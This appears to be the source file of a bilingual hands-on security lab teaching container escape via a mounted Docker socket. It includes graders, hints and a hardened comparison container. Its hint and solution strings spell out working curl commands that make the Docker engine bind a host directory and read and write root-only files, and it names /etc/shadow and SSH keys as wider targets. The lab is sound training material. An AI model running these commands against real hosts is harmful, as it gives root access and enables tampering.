// Escape lab: a Docker engine's socket mounted into a container. With nothing but curl the
// learner asks that engine for a new container that binds a host directory, and reads (then
// writes) the host's root-only files through it. Containment: the socket belongs to a
// throwaway engine the server starts for this session only (LabDefinition.sessionEngines,
// server/docker/session-engine.ts), never the server's own engine. That engine is still
// root on the host: the lesson says so, and the lab's own payloads touch only the session's
// directory. The hardened contrast is the same container without the socket.
import { FLAG_LINE, flagCheck } from '../shared/flag-check.ts';
import { type LabDefinition, SOCKET_ENGINE } from '../../server/lab-kit.ts';
import { HARDENED, HARDENED_TITLE } from '../shared/hardened-profile.ts';
import { t } from '../shared/localized.ts';

const SMALL = { memoryMb: 128, pidsLimit: 128, cpus: 0.5 } as const;
export const SOCKET = '/var/run/docker.sock';

// What a learner types, in pieces: every step is one self-contained line (the page's "Skip"
// runs each step in a fresh shell).
const S = `S=${SOCKET}`;
const IMG = `IMG=$(curl -s --unix-socket $S http://localhost/images/json | grep -o 'nslab/lab:[0-9a-f]*' | head -1)`;
/** The session directory: the host path of the mounted socket, from mountinfo, minus engine/docker.sock. */
const DIR = `DIR=$(awk '$5 ~ /docker[.]sock$/ {print $4}' /proc/self/mountinfo); DIR=\${DIR%/engine/docker.sock}`;
const create = (body: string): string =>
  `ID=$(curl -s --unix-socket $S -H 'Content-Type: application/json' -d "${body}" http://localhost/containers/create | grep -o '[0-9a-f]\\{64\\}')`;
const RUN = `curl -s --unix-socket $S -X POST http://localhost/containers/$ID/start >/dev/null; curl -s --unix-socket $S -X POST http://localhost/containers/$ID/wait >/dev/null; curl -s --unix-socket $S "http://localhost/containers/$ID/logs?stdout=1&stderr=1" | tr -d '\\r'`;

export const HELLO_STEP = [
  S,
  IMG,
  create(
    String.raw`{\"Image\":\"$IMG\",\"Tty\":true,\"Cmd\":[\"echo\",\"hello from a container I asked for\"]}`,
  ),
  RUN,
].join('; ');

export const READ_FLAG_STEP = [
  S,
  IMG,
  DIR,
  create(
    String.raw`{\"Image\":\"$IMG\",\"Tty\":true,\"Cmd\":[\"cat\",\"/host/flag\"],\"HostConfig\":{\"Binds\":[\"$DIR:/host:ro\"]}}`,
  ),
  RUN,
].join('; ');

export const WRITE_PROOF_STEP = [
  S,
  IMG,
  DIR,
  create(
    String.raw`{\"Image\":\"$IMG\",\"Tty\":true,\"Cmd\":[\"sh\",\"-c\",\"cat /host/flag > /host/root-only/proof; ls -ln /host/root-only\"],\"HostConfig\":{\"Binds\":[\"$DIR:/host\"]}}`,
  ),
  RUN,
].join('; ');

const NEVER_STARTED = '0001-01-01T00:00:00Z';

export const escapeDockerSockLab: LabDefinition = {
  id: 'escape-docker-sock',
  title: t('Escape: the Docker socket', '逃逸：Docker 套接字'),
  topic: 'escapes',
  summary: t(
    "A container holding a Docker engine's socket holds the engine: with curl alone, make it start a container that mounts the host's files, read a root-only flag and leave proof on the host. Then see the same requests fail without the socket.",
    '持有 Docker 引擎套接字的容器就持有了这个引擎：只用 curl，让它启动一个挂载宿主机文件的容器，读取一个仅 root 可读的 flag，并在宿主机上留下证据。然后看看没有套接字时，同样的请求如何失败。',
  ),
  minutes: 15,
  learned: [
    t(
      "Whoever holds a Docker engine's socket holds the engine, and with it root on the engine's host.",
      '谁持有 Docker 引擎的套接字，谁就持有这个引擎，也就拥有了引擎所在宿主机上的 root。',
    ),
    t(
      'Never mount docker.sock into a container; without it the same requests have nowhere to go.',
      '绝不要把 docker.sock 挂载进容器；没有它，同样的请求就无处可去。',
    ),
  ],
  lesson: 'escape-docker-sock.md',
  escape: true,
  sessionEngines: [{ name: SOCKET_ENGINE }],
  // In a workshop the socket is the learner's seat engine (rootless, its own Unix user).
  workshop: 'seat-engine',
  hostFiles: [
    { path: 'flag', content: '{{token}}\n', mode: 0o600 },
    { path: 'root-only', mode: 0o700 },
  ],
  containers: [
    {
      name: 'with-socket',
      title: t('with-socket (-v docker.sock)', 'with-socket（-v docker.sock）'),
      hostname: 'with-socket',
      sessionEngineSocket: SOCKET,
      ...SMALL,
    },
    { name: 'hardened', title: HARDENED_TITLE, hostname: 'hardened', ...HARDENED, ...SMALL },
  ],
  exercises: [
    {
      id: 'ask-the-engine',
      title: t('Talk to the engine', '与引擎对话'),
      goal: t(
        'Make the Docker engine behind /var/run/docker.sock create and start a container that you asked for.',
        '让 /var/run/docker.sock 背后的 Docker 引擎按你的要求创建并启动一个容器。',
      ),
      hints: [
        t(
          'The Docker CLI is only a client of a REST API, and the socket is that API. curl speaks HTTP over a Unix socket with --unix-socket.',
          'Docker CLI 只是一个 REST API 的客户端，而这个套接字就是那个 API。curl 加上 --unix-socket 就能通过 Unix 套接字说 HTTP。',
        ),
        t(
          'Ask GET /images/json for an image name, then POST /containers/create with a JSON body {"Image": …, "Cmd": […]}, then POST /containers/<id>/start.',
          '先用 GET /images/json 要一个镜像名，再用 JSON 请求体 {"Image": …, "Cmd": […]} 发送 POST /containers/create，然后 POST /containers/<id>/start。',
        ),
        t(`In the with-socket terminal: ${HELLO_STEP}`, `在 with-socket 终端中：${HELLO_STEP}`),
      ],
      check: async (ctx) => {
        const containers = await ctx.sessionEngine(SOCKET_ENGINE).containers();
        const ran = containers.filter((c) => c.State.StartedAt !== NEVER_STARTED);
        const first = ran[0];
        if (first !== undefined) {
          return {
            passed: true,
            reason: t(
              `The engine ran ${first.Name.replace(/^\//, '')} (image ${first.Config.Image}, command "${[first.Config.Cmd].flat().join(' ')}"), created by a process inside a container: whoever reaches the socket drives the engine.`,
              `引擎运行了 ${first.Name.replace(/^\//, '')}（镜像 ${first.Config.Image}，命令 "${[first.Config.Cmd].flat().join(' ')}"），它是由容器内的一个进程创建的：谁够得着这个套接字，谁就能驱使这个引擎。`,
            ),
          };
        }
        if (containers.length > 0) {
          return {
            passed: false,
            reason: t(
              `The engine created ${containers.length} container(s), but never started one.`,
              `引擎创建了 ${containers.length} 个容器，但一个也没有启动。`,
            ),
            hint: 1,
          };
        }
        return {
          passed: false,
          reason: t(
            'The engine behind the socket has no containers.',
            '套接字背后的引擎没有任何容器。',
          ),
          hint: 0,
        };
      },
      // The same requests from the container without the socket.
      cheat: [{ terminal: 'hardened', input: HELLO_STEP }],
      solution: [{ terminal: 'with-socket', input: HELLO_STEP }],
    },
    {
      id: 'read-the-flag',
      title: t("Read the host's flag", '读取宿主机的 flag'),
      goal: t(
        "Read the flag, a file only the host's root may read (mode 0600) in this session's host directory that no container of the lab mounts, and submit it.",
        '读取 flag 并提交：它是本会话在宿主机上的目录中一个只有宿主机 root 可读的文件（权限 0600），本实验没有任何容器挂载它。',
      ),
      answer: {
        label: t('The flag', 'flag'),
        placeholder: t('16 hex digits', '16 位十六进制数字'),
      },
      hints: [
        t(
          'The engine runs as root on the host and mounts whatever its API is asked to: a container of yours can bind any host path ("Binds" under "HostConfig").',
          '引擎以 root 身份运行在宿主机上，API 要求它挂载什么，它就挂载什么：你的容器可以绑定任意宿主机路径（"HostConfig" 下的 "Binds"）。',
        ),
        t(
          'The session directory is where the socket comes from: the fourth field of its line in /proc/self/mountinfo, minus /engine/docker.sock. The flag is the file "flag" there.',
          '会话目录就是套接字的来源：/proc/self/mountinfo 中它那一行的第四个字段，去掉 /engine/docker.sock。flag 就是那里名为 "flag" 的文件。',
        ),
        t(
          `In the with-socket terminal: ${READ_FLAG_STEP}`,
          `在 with-socket 终端中：${READ_FLAG_STEP}`,
        ),
      ],
      check: flagCheck(
        t(
          "Right. No container of this lab mounts that file: the engine read it for you, as the host's root, because a container of yours asked it to bind the directory.",
          '没错。本实验没有任何容器挂载那个文件：是引擎以宿主机 root 的身份替你读取了它，因为你的一个容器要求它绑定那个目录。',
        ),
      ),
      cheat: [
        { terminal: 'hardened', input: READ_FLAG_STEP, capture: FLAG_LINE },
        { terminal: 'with-socket', input: `cat ${SOCKET}`, capture: FLAG_LINE },
      ],
      solution: [{ terminal: 'with-socket', input: READ_FLAG_STEP, capture: FLAG_LINE }],
    },
    {
      id: 'leave-proof',
      title: t('Write on the host', '在宿主机上写入'),
      goal: t(
        "Make the host hold the flag in a new file inside the session directory's root-only/ folder (mode 0700, root only, mounted in no container).",
        '让宿主机在会话目录的 root-only/ 文件夹（权限 0700，仅 root 可访问，没有任何容器挂载）中的一个新文件里存放 flag。',
      ),
      hints: [
        t(
          'Reading was a read-only bind. What does the same container do with a read-write one?',
          '读取用的是只读绑定。换成读写绑定，同样的容器能做什么？',
        ),
        t(
          'Bind the session directory without :ro and have the container copy flag into root-only/.',
          '绑定会话目录时不加 :ro，让容器把 flag 复制到 root-only/ 中。',
        ),
        t(
          `In the with-socket terminal: ${WRITE_PROOF_STEP}`,
          `在 with-socket 终端中：${WRITE_PROOF_STEP}`,
        ),
      ],
      check: async (ctx) => {
        const files = (await ctx.sessionFiles.list('root-only')).filter((f) => !f.isDirectory);
        for (const file of files) {
          const text = await ctx.sessionFiles.read(`root-only/${file.name}`);
          if (text.includes(ctx.sessionToken)) {
            return {
              passed: true,
              reason: t(
                `root-only/${file.name} on the host holds the flag and belongs to uid ${file.uid}. An engine that writes here writes anywhere: /etc/shadow, /root/.ssh/authorized_keys, a cron job.`,
                `宿主机上的 root-only/${file.name} 含有 flag，属于 uid ${file.uid}。能在这里写入的引擎，在哪里都能写：/etc/shadow、/root/.ssh/authorized_keys、一个 cron 任务。`,
              ),
            };
          }
        }
        return {
          passed: false,
          reason:
            files.length === 0
              ? t('root-only/ on the host is empty.', '宿主机上的 root-only/ 是空的。')
              : t(
                  `root-only/ holds ${files.map((f) => f.name).join(', ')}, but none has the flag in it.`,
                  `root-only/ 中有 ${files.map((f) => f.name).join(', ')}，但没有一个含有 flag。`,
                ),
          hint: files.length === 0 ? 0 : 1,
        };
      },
      cheat: [
        { terminal: 'hardened', input: WRITE_PROOF_STEP },
        {
          terminal: 'with-socket',
          input: 'mkdir -p /root-only && echo 0123456789abcdef > /root-only/proof',
        },
      ],
      solution: [{ terminal: 'with-socket', input: WRITE_PROOF_STEP }],
    },
  ],
};
